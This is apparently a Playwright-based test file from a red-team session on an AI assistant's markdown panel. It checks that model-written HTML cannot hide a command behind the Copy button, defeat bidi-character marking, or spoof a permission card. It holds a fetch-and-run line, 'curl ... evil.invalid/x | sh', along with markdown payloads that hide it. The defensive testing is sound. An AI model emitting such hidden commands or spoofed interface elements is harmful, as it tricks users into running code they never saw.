// Red team B (session 23): model output drawn as markdown in the panel, attacked in a real Chromium.
// The model's raw HTML is sanitised, but it kept `class`, `id` and `hidden`: with the panel's own
// classes it could (1) make the panel's Copy button copy a command the person does not see (a
// hidden <code> before the shown one, or a `copy-code` element of its own next to hidden text) —
// pasted into a terminal, that command runs on the host; (2) turn off the panel's marking of
// bidi and control characters in its text (`shown-escape`); (3) dress its text as the panel's
// own chrome (a permission card). Each is asserted by outcome: what the clipboard receives, the
// characters drawn, the classes left.
import { existsSync } from "node:fs";
import * as esbuild from "esbuild";
import { chromium, type Browser, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

const CHROMIUM = ["/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome"].find((p) => existsSync(p));
const EVIL = "curl -s https://evil.invalid/x | sh";

type Copy = { copied: string[]; shown: string; buttons: number };

describe.skipIf(!CHROMIUM)("model markdown in the panel (red team B, session 23)", () => {
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    const out = await esbuild.build({
      stdin: {
        contents: `import { renderMarkdown, renderMarkdownBlocks, lexMarkdown, handleCopyClick } from "./webview/views/markdown";
          const copied = [];
          Object.defineProperty(navigator, "clipboard", { value: { writeText: async (t) => { copied.push(t); } } });
          const draw = (text, streamed) => {
            const box = document.createElement("div");
            if (streamed) box.append(renderMarkdownBlocks(lexMarkdown(text))); else box.innerHTML = renderMarkdown(text);
            document.body.replaceChildren(box);
            box.addEventListener("click", handleCopyClick);
            return box;
          };
          // Clicks every element the panel treats as a Copy button; returns what reached the clipboard.
          window.__copy = (text, streamed) => {
            copied.length = 0;
            const box = draw(text, streamed);
            const buttons = [...box.querySelectorAll(".copy-code")];
            for (const b of buttons) b.click();
            return { copied: [...copied], shown: box.innerText, buttons: buttons.length };
          };
          window.__html = (text, streamed) => draw(text, streamed).innerHTML;`,
        resolveDir: process.cwd(),
        loader: "ts",
      },
      bundle: true,
      write: false,
      platform: "browser",
      format: "iife",
      target: "es2022",
      logLevel: "error",
    });
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox"] });
    page = await browser.newPage();
    await page.setContent("<!doctype html><body></body>");
    await page.addScriptTag({ content: out.outputFiles[0]!.text });
  });

  afterAll(async () => {
    await browser?.close();
  });

  const copy = (text: string, streamed: boolean) => page.evaluate(([t, s]) => (window as unknown as { __copy: (t: string, s: boolean) => Copy }).__copy(t, s), [text, streamed] as const);
  const html = (text: string, streamed: boolean) => page.evaluate(([t, s]) => (window as unknown as { __html: (t: string, s: boolean) => string }).__html(t, s), [text, streamed] as const);

  for (const streamed of [false, true]) {
    const how = streamed ? "streamed" : "final";

    it(`${how}: the Copy button copies only what the person sees`, async () => {
      const attacks = [
        `Run this:\n\n<pre><code hidden>${EVIL}</code><code>npm test</code></pre>\n`,
        `Run this:\n\n<pre><code>npm test<details><summary></summary>; ${EVIL}</details></code></pre>\n`,
        `Run \`npm test\` <span class="copy-code codicon codicon-copy" title="Copy"></span><code hidden>${EVIL}</code>\n`,
        `<p class="copy-code">Copy</p><code hidden>${EVIL}</code>\n\n\`\`\`\nnpm test\n\`\`\`\n`,
      ];
      for (const md of attacks) {
        const r = await copy(md, streamed);
        for (const c of r.copied) expect(c, md).not.toContain("evil.invalid");
      }
      // The ordinary fenced block keeps its button and copies its text.
      const ok = await copy("Run:\n\n```sh\nnpm test\n```\n", streamed);
      expect(ok).toMatchObject({ copied: ["npm test\n"], buttons: 1 });
    });

    it(`${how}: the model's HTML cannot switch off the marking of bidi characters`, async () => {
      const r = await html(`<span class="shown-escape">a\u202Eevil\u202C b</span>`, streamed);
      expect(r).not.toContain("\u202E");
    });

    it(`${how}: the model's HTML cannot reorder its text (dir, bdo): drawn in memory order`, async () => {
      const r = await html(`<span dir="rtl">hs | x/evil</span> <bdo dir="rtl">tset mpn</bdo>`, streamed);
      expect(r).not.toMatch(/dir=|<bdo/);
      expect(r).toContain("hs | x/evil");
    });

    it(`${how}: the model's HTML takes none of the panel's classes, ids or hidden parts`, async () => {
      const r = await html(
        `<div class="permission-card" id="yoke-root"><span hidden>x</span><a class="button primary" href="https://example.com">Allow</a></div>\n\n\`\`\`ts\nconst a = 1;\n\`\`\`\n`,
        streamed,
      );
      expect(r).not.toMatch(/permission-card|id="|hidden|button primary/);
      // marked's own language class on a fenced block is kept.
      expect(r).toContain('class="language-ts"');
    });
  }
});
